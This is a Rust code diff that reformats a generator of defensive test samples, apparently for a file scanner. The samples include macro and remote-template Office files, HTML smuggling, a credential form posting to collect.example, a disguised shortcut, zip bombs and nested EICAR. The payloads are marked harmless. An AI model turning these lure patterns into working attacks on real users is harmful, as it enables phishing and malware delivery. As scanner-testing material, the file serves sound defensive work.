@@ -20,13 +20,38 @@ pub fn files() -> Vec<(&'static str, Vec<u8>)> {
             let archive = rar::Rar5::new().file("invoice.txt", &invoice).file("terms.txt", &invoice);
             archive.with(|r| (r.compressed, r.solid) = (true, true)).build()
         }),
-        ("photos.lzh", lha::build(&[lha::Member::new("photos/one.txt", &photo, 2, true), lha::Member::new("photos/two.txt", &photo, 1, true)])),
-        ("locked.zip", Archive::of(vec![zip::aes256("salaries.txt", &payload("demo-locked"), "correct horse battery staple")]).build()),
-        ("macro.docm", Package::new(Ooxml::Docx, "Please enable the content.").project(vba::auto_open("demo-macro")).build_macro()),
-        ("template.docx", office::docx_with_template("http://template.example/evil.dotm", text)),
+        (
+            "photos.lzh",
+            lha::build(&[
+                lha::Member::new("photos/one.txt", &photo, 2, true),
+                lha::Member::new("photos/two.txt", &photo, 1, true),
+            ]),
+        ),
+        (
+            "locked.zip",
+            Archive::of(vec![zip::aes256(
+                "salaries.txt",
+                &payload("demo-locked"),
+                "correct horse battery staple",
+            )])
+            .build(),
+        ),
+        (
+            "macro.docm",
+            Package::new(Ooxml::Docx, "Please enable the content.")
+                .project(vba::auto_open("demo-macro"))
+                .build_macro(),
+        ),
+        (
+            "template.docx",
+            office::docx_with_template("http://template.example/evil.dotm", text),
+        ),
         ("object.doc", ole::doc_with_package("invoice.js", b"// harmless test\nvar x = 1;\n")),
         ("javascript.pdf", pdf::javascript_in_object_stream("demo-javascript")),
-        ("smuggling.html", web::smuggling("invoice.zip", &zip::simple(&[("invoice.js", b"var x = 'harmless test';\n")]))),
+        (
+            "smuggling.html",
+            web::smuggling("invoice.zip", &zip::simple(&[("invoice.js", b"var x = 'harmless test';\n")])),
+        ),
         ("signin.html", web::credential_form("https://collect.example/post", "demo-signin")),
         ("picture.svg", web::svg("<script>alert('harmless test');</script>")),
         ("shortcut.zip", {
@@ -35,7 +60,13 @@ pub fn files() -> Vec<(&'static str, Vec<u8>)> {
             let link = lnk::Lnk::new(target).with(|l| (l.show, l.arguments) = (7, arguments.clone()));
             zip::simple(&[("invoice.pdf.lnk", &link.build())])
         }),
-        ("liar.zip", zip::tricks().into_iter().find(|t| t.name.starts_with("z02")).map_or(Vec::new(), |t| t.bytes)),
+        (
+            "liar.zip",
+            zip::tricks()
+                .into_iter()
+                .find(|t| t.name.starts_with("z02"))
+                .map_or(Vec::new(), |t| t.bytes),
+        ),
         ("bomb-10gb.gz", streams::gzip_bomb()),
         ("bomb-10gb.zip", catalog::zip_bomb()),
     ]
@@ -55,13 +86,20 @@ mod tests {
     #[test]
     fn eicar_lies_three_layers_deep() {
         let mut tar = Vec::new();
-        lzma_rust2::XzReader::new(&eicar_in_zip_in_tar_xz()[..], true).read_to_end(&mut tar).unwrap();
+        lzma_rust2::XzReader::new(&eicar_in_zip_in_tar_xz()[..], true)
+            .read_to_end(&mut tar)
+            .unwrap();
         let mut archive = tar::Archive::new(&tar[..]);
         let mut member = archive.entries().unwrap().next().unwrap().unwrap();
         let mut inner = Vec::new();
         member.read_to_end(&mut inner).unwrap();
         let mut plain = Vec::new();
-        ::zip::ZipArchive::new(std::io::Cursor::new(inner)).unwrap().by_index(0).unwrap().read_to_end(&mut plain).unwrap();
+        ::zip::ZipArchive::new(std::io::Cursor::new(inner))
+            .unwrap()
+            .by_index(0)
+            .unwrap()
+            .read_to_end(&mut plain)
+            .unwrap();
         assert_eq!(plain, eicar());
     }
 }
